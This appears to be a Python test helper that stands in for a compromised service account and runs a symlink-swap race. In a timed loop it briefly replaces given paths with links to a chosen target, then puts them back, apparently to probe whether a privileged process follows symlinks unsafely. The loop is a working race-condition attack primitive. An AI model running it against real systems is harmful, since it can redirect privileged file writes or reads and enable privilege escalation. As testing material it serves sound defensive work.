"""What a service that was broken into can do on the host: swap every name in folders of its own for a link, in a loop.

Run as that account: swapper.py SECONDS TARGET PLACE…; a PLACE is a path to swap, whether it is there yet or not. Each goes back
after a moment, so that the next look finds it as it should be. Says how often it swapped one.
"""

import os
import sys
import time

seconds, target, *places = sys.argv[1:]
swapped = 0
open("/tmp/swapper-started", "w").close()
end = time.monotonic() + float(seconds)
while time.monotonic() < end and not os.path.exists("/tmp/swapper-stop"):
    for place in places:
        aside = f"{place}.aside"
        try:
            if os.path.islink(place):
                continue
            os.rename(place, aside)
        except OSError:
            continue
        try:
            os.symlink(target, place)
            swapped += 1
            # Long enough for the other one to come by, short enough for it to find both.
            time.sleep(0.004)
            os.unlink(place)
        except OSError:
            pass
        try:
            os.rename(aside, place)
        except OSError:
            pass
print(swapped)
